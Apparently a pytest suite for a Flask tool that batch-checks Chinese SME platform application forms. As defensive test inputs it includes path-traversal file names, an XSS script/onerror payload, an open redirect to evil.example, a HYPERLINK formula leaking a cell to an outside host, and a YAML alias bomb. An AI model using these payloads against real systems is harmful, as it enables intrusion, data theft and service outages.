"""The web page's logic through Flask's test client: pages, the clerk's batch
(grouping, a corrupt file beside good ones, downloads), limits, refused names,
escaping, the token and the workspace's time limit."""
from __future__ import annotations

import io
import json
import re
import zipfile

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from toolkit.web import create_app
from toolkit.web.grouping import BadName, Upload, group, name_parts
from toolkit.web.server import is_loopback

from web_support import SAMPLES, csrf, download, filled_annexes, wait_done


@pytest.fixture
def app(tmp_path):
    a = create_app({"workspace": tmp_path, "ttl": 600})
    yield a
    a.extensions["qhsme_jobs"].close()


@pytest.fixture
def client(app):
    return app.test_client()


@pytest.fixture(scope="module")
def docx_annexes(tmp_path_factory):
    return filled_annexes(tmp_path_factory.mktemp("docx"), "docx")


def _uploads(root):
    """What a workspace holds besides its owner lock."""
    return [p for p in root.iterdir() if p.name != "owner.lock"]


def _post(client, files, field="folder", page="/batch", **form):
    data = {"csrf": csrf(client, page), **form}
    data[field] = files
    return client.post(page, data=data, content_type="multipart/form-data")


def test_pages_are_chinese_and_linked(client):
    for url, words in [("/", "下载表格"), ("/forms", "青海省中小企业公共服务示范平台申请推荐表"),
                       ("/batch", "解析回收材料"), ("/self", "营业执照复印件")]:
        r = client.get(url)
        assert r.status_code == 200, url
        html = r.get_data(as_text=True)
        assert words in html and 'lang="zh-CN"' in html
        # one script, from this site (upload progress); never inline
        assert re.findall(r"<script[^>]*>", html) == ['<script src="/upload.js" defer>']
        assert "script-src 'self'" in r.headers["Content-Security-Policy"]
        assert "unsafe-inline" not in r.headers["Content-Security-Policy"].split("script-src")[1].split(";")[0]


def test_self_page_titles_come_from_the_regulation(client):
    from toolkit.dossier.items import application_items
    html = client.get("/self").get_data(as_text=True)
    for item in application_items()[5:]:
        assert item.label in html


def test_fillable_files_only_by_name(client):
    from toolkit.web.app import fillable_dir
    if not (fillable_dir() / "annex1.pdf").is_file():
        pytest.skip("fillable/ 尚未生成")
    with client.get("/forms/annex1.pdf") as r:
        assert r.status_code == 200 and r.data.startswith(b"%PDF")
        assert "attachment" in r.headers["Content-Disposition"]
    for bad in ("/forms/../pyproject.toml", "/forms/index.html", "/forms/annex9.pdf", "/forms/%2e%2e/README.md"):
        assert client.get(bad).status_code == 404, bad


def test_batch_groups_by_folder_and_goes_on_past_a_corrupt_file(client, docx_annexes):
    files = [(io.BytesIO(p.read_bytes()), f"回收/西宁平台/{p.name}") for p in docx_annexes]
    files.append((io.BytesIO(b"%PDF-1.7\n not really a pdf"), "回收/坏文件单位/损坏的表格.pdf"))
    files.append((io.BytesIO(b"PK\x03\x04 cut short"), "回收/坏压缩包.zip"))
    r = _post(client, files)
    assert r.status_code == 303
    html = wait_done(client, r.headers["Location"])
    assert "3 家单位，6 个文件" in html
    assert "压缩包已损坏" in html and "回收/坏压缩包.zip" in html
    assert "西宁平台" in html and "坏文件单位" in html
    assert "回收/坏文件单位/损坏的表格.pdf" in html          # the corrupt file named as uploaded
    assert "第五条第（一）项" in html and "需核实" in html   # the good application's findings
    loc = r.headers["Location"]
    status, headers, body = download(client, loc + "/xlsx")
    assert status == 200 and "attachment" in headers["Content-Disposition"]
    wb = load_workbook(io.BytesIO(body))
    assert "问题清单" in wb.sheetnames and "检查结论" in wb.sheetnames
    ids = {row[0] for row in wb["检查结论"].iter_rows(min_row=2, values_only=True)}
    assert ids == {"西宁平台"}
    issues = [row for row in wb["问题清单"].iter_rows(min_row=2, values_only=True)]
    assert any(row[0] == "回收/坏文件单位/损坏的表格.pdf" for row in issues)
    assert download(client, loc + "/csv")[2].startswith(b"\xef\xbb\xbf")
    doc = json.loads(download(client, loc + "/json")[2])
    assert [a["id"] for a in doc["applications"]] == ["西宁平台"]
    assert doc["applications"][0]["check"]["format"] == "qhsme-check/1"
    assert client.get(loc + "/nothing").status_code == 404


def test_an_electronic_dossier_zip_is_read_from_its_bound_copy(tmp_path):
    """The 电子版 zip this toolkit binds, uploaded as is: one unit (its 分项材料/ folder is not
    another), annexes 1-5 read, no errors, the pieces and the certificates each said once."""
    from toolkit.dossier.bind import bind
    from toolkit.web.work import parse_files
    bound = bind(SAMPLES / "dossier.yaml", tmp_path / "bound", copies=1, package=True)
    apps = group([Upload(bound.package, "西宁平台.zip")], tmp_path / "scratch")
    assert [a.id for a in apps] == ["西宁平台"]
    validated, data = parse_files(apps[0].files)
    assert all(f"annex{n}" in data for n in range(1, 6))
    assert not [p for p in validated.problems if p.severity == "错误"], validated.problems
    said = [p.message for p in validated.problems]
    assert sum("分项文件与装订本内容相同" in m for m in said) == 1
    assert sum("不是表格" in m for m in said) == 1


def test_zip_with_folders_is_one_application_per_folder(tmp_path):
    z = tmp_path / "stored.zip"
    with zipfile.ZipFile(z, "w") as f:
        f.writestr("批次/甲单位/annex1.pdf", b"%PDF-1.4")
        f.writestr("批次/乙单位/annex1.pdf", b"%PDF-1.4")
        f.writestr("批次/乙单位/扫描/annex3.pdf", b"%PDF-1.4")
        f.writestr("../../etc/evil.pdf", b"%PDF-1.4")
    flat = tmp_path / "flat.zip"
    with zipfile.ZipFile(flat, "w") as f:
        f.writestr("annex1.pdf", b"%PDF-1.4")
        f.writestr("annex3.pdf", b"%PDF-1.4")
    apps = group([Upload(z, "海东市.zip"), Upload(flat, "丙单位.zip")], tmp_path / "scratch")
    by_id = {a.id: a for a in apps}
    assert set(by_id) == {"甲单位", "乙单位", "丙单位"}
    assert any("已跳过" in p.message and "evil" in p.file for a in apps for p in a.problems)
    assert len(by_id["乙单位"].files) == 2 and len(by_id["丙单位"].files) == 2
    assert by_id["丙单位"].files[0][1] == "丙单位.zip/annex1.pdf"
    for a in apps:                       # nothing was written outside the scratch folder
        for path, _ in a.files:
            assert (tmp_path / "scratch") in path.parents
    assert not (tmp_path / "etc").exists()


def test_loose_files_without_folders_are_one_application(tmp_path):
    ups = []
    for i, name in enumerate(["annex1.pdf", "annex3.pdf", "说明.txt"]):
        p = tmp_path / f"{i:05d}"
        p.write_bytes(b"x")
        ups.append(Upload(p, name))
    apps = group(ups, tmp_path / "s")
    assert [a.id for a in apps] == ["上传的文件"]
    assert len(apps[0].files) == 2
    assert "已忽略" in apps[0].problems[0].message


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "a/../../b.pdf", "C:\\Windows\\x.pdf",
                                  "..\\..\\x.pdf", "a\x00b.pdf"])
def test_path_names_are_refused(name):
    with pytest.raises(BadName):
        name_parts(name)


def test_upload_named_like_a_path_is_refused_and_nothing_stored(app, client, tmp_path):
    r = _post(client, [(io.BytesIO(b"%PDF-1.4"), "annex1.pdf"), (io.BytesIO(b"root:x:0:0"), "../../etc/passwd")],
              field="files")
    assert r.status_code == 400
    html = r.get_data(as_text=True)
    assert "../../etc/passwd" in html and "已拒收" in html
    root = app.extensions["qhsme_jobs"].root
    assert _uploads(root) == []


def test_oversize_and_too_many_files_are_refused(tmp_path):
    app = create_app({"workspace": tmp_path, "max_mb": 0.1, "max_files": 3})
    c = app.test_client()           # (kept under 500 KB: the test client spools larger bodies to a file)
    r = _post(c, [(io.BytesIO(b"0" * 200_000), "big.pdf")], field="files")
    assert r.status_code == 413
    assert "每次最多 0.1 MB、3 个文件" in r.get_data(as_text=True)
    r = _post(c, [(io.BytesIO(b"%PDF"), f"f{i}.pdf") for i in range(5)], field="files")
    assert r.status_code == 413
    assert _uploads(app.extensions["qhsme_jobs"].root) == []
    app.extensions["qhsme_jobs"].close()


def test_post_without_the_page_token_is_refused(client):
    r = client.post("/batch", data={"files": [(io.BytesIO(b"%PDF"), "a.pdf")]}, content_type="multipart/form-data")
    assert r.status_code == 400 and "页面已过期" in r.get_data(as_text=True)


def test_names_and_data_are_escaped(client):
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>.pdf'
    r = _post(client, [(io.BytesIO(b"%PDF-1.4 broken"), evil)], field="files")
    html = wait_done(client, r.headers["Location"])
    assert "&lt;script&gt;" in html
    assert "<script>" not in html and "<img src=x" not in html


def test_token_required_when_set(tmp_path):
    app = create_app({"workspace": tmp_path, "token": "青海-2026"})
    c = app.test_client()
    r = c.get("/batch")
    assert r.status_code == 302 and "/login" in r.headers["Location"]
    page = c.get("/login?next=/batch").get_data(as_text=True)
    token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    bad = c.post("/login", data={"csrf": token, "token": "wrong", "next": "/batch"})
    assert bad.status_code == 403 and "口令不正确" in bad.get_data(as_text=True)
    ok = c.post("/login", data={"csrf": token, "token": "青海-2026", "next": "//evil.example/"})
    assert ok.status_code == 302 and ok.headers["Location"] == "/"
    assert c.get("/batch").status_code == 200
    c2 = app.test_client()
    r = c2.get("/forms?token=%E9%9D%92%E6%B5%B7-2026")
    assert r.status_code == 302 and "token" not in r.headers["Location"]
    assert c2.get("/forms").status_code == 200
    app.extensions["qhsme_jobs"].close()


def test_serve_refuses_network_host_without_token(monkeypatch):
    from toolkit.cli import main
    monkeypatch.delenv("QHSME_TOKEN", raising=False)
    r = CliRunner().invoke(main, ["serve", "--host", "0.0.0.0", "--port", "1"])
    assert r.exit_code == 2
    assert "必须设置口令" in r.output
    assert is_loopback("127.0.0.1") and is_loopback("::1") and is_loopback("localhost")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.168.1.5")


def test_jobs_and_their_files_expire(tmp_path):
    from toolkit.web.jobs import DONE, Jobs
    jobs = Jobs(ttl=60, root=tmp_path)
    job = jobs.new("batch")
    (job.dir / "x.pdf").write_bytes(b"x")
    job.state = DONE
    assert jobs.sweep(now=job.created + 30) == 0
    assert jobs.sweep(now=job.created + 120) == 1
    assert not job.dir.exists() and jobs.get(job.id) is None
    jobs.close()
    assert not jobs.root.exists()


def test_expired_jobs_go_without_any_request(tmp_path):
    import time
    from toolkit.web.jobs import DONE, Jobs
    jobs = Jobs(ttl=1, root=tmp_path)
    job = jobs.new("batch")
    job.state = DONE
    end = time.monotonic() + 10
    while job.dir.exists() and time.monotonic() < end:
        time.sleep(0.2)
    assert not job.dir.exists()
    jobs.close()


def test_self_check_reads_returned_annexes(tmp_path, docx_annexes):
    from toolkit.web.work import _read_data
    ups = []
    for i, p in enumerate(docx_annexes + [tmp_path / "notes.txt"]):
        q = tmp_path / f"{i:05d}{p.suffix}"
        q.write_bytes(p.read_bytes() if p.exists() else b"x")
        ups.append(Upload(q, f"申报/{p.name}"))
    data, problems = _read_data(None, ups)
    assert {f"annex{n}" for n in range(1, 6)} <= set(data)
    assert data["annex1"]["unit_name"]
    assert any(p.file == "申报/notes.txt" and "已忽略" in p.message for p in problems)
    assert all(not str(p.file).startswith(str(tmp_path)) for p in problems)


def test_photo_paths_in_a_data_file_never_reach_the_disk(tmp_path):
    from web_support import sample_data
    from toolkit.web.work import _photos
    data = sample_data()
    data["annex2"]["photos"][0]["file"] = "/etc/passwd.png"
    photo = tmp_path / "photos" / "照片1.png"
    photo.parent.mkdir()
    photo.write_bytes(b"png")
    result = {"notes": []}
    out = _photos(data, [Upload(photo, "Photo-LAB.png")], tmp_path, result)
    files = [r["file"] for r in out["annex2"]["photos"]]
    assert files[1] == "photos/照片1.png"                  # matched by name, case aside
    assert files[0] == files[2] == "photos/未上传.png"     # the rest: a placeholder of ours
    assert (tmp_path / files[0]).is_file()
    assert "passwd.png" in result["notes"][0] and "photo-classroom.png" in result["notes"][0]
    assert data["annex2"]["photos"][0]["file"] == "/etc/passwd.png"     # the input is not changed


def test_serve_reports_a_port_in_use(tmp_path):
    import socket
    from toolkit.errors import QhsmeError
    from toolkit.web import serve
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        port = s.getsockname()[1]
        with pytest.raises(QhsmeError, match="端口可能已被占用"):
            serve("127.0.0.1", port, {"workspace": tmp_path}, announce=lambda _: None)
    assert list(tmp_path.iterdir()) == []          # the workspace went with the failed start


def test_a_job_that_breaks_says_so(client, monkeypatch):
    import toolkit.web.work as work

    def broken(job, uploads):
        raise RuntimeError("磁盘已满")
    monkeypatch.setattr(work, "run_batch", broken)
    r = _post(client, [(io.BytesIO(b"%PDF-1.4"), "a.pdf")], field="files")
    html = wait_done(client, r.headers["Location"])
    assert "处理出错" in html and "磁盘已满" in html


def test_a_blank_form_returned_is_pointed_out(tmp_path):
    from toolkit.docxform import write_blank
    from toolkit.web.work import parse_files
    p = tmp_path / "00001.docx"
    write_blank(3, p)
    validated, data = parse_files([(p, "单位/附件3.docx")])
    assert any("没有读出任何填写的内容" in x.message and x.file == "单位/附件3.docx" for x in validated.problems)


def test_self_check_refuses_a_yaml_alias_bomb_at_once(client):
    import time
    from test_datafile_yaml import alias_bomb
    t = time.perf_counter()
    r = _post(client, [(io.BytesIO(alias_bomb().encode()), "申报数据.yaml")], field="data", page="/self")
    html = wait_done(client, r.headers["Location"], timeout=5)
    assert time.perf_counter() - t < 0.5
    assert "不允许使用锚点" in html and "申报数据.yaml" in html
    assert client.get("/").status_code == 200


def test_batch_downloads_keep_formulas_as_text(client, tmp_path):
    from toolkit.docxform import write_filled
    from web_support import sample_data
    data = sample_data()
    data["annex1"]["unit_name"] = '=HYPERLINK("http://example.invalid/"&A1,"点此查看")'
    write_filled(1, data, tmp_path / "annex1.docx", base_dir=SAMPLES)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.write(tmp_path / "annex1.docx", "附件1.docx")
    buf.seek(0)
    r = _post(client, [(buf, "=1+2.zip")], field="files")
    html = wait_done(client, r.headers["Location"])
    url = re.search(r'href="(/jobs/[^"]+/xlsx)"', html).group(1)
    status, _, body = download(client, url)
    wb = load_workbook(io.BytesIO(body))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {"=1+2", data["annex1"]["unit_name"]} <= {c.value for c in cells}
    status, _, body = download(client, url[:-4] + "csv")
    assert "'=1+2," in body.decode("utf-8-sig")
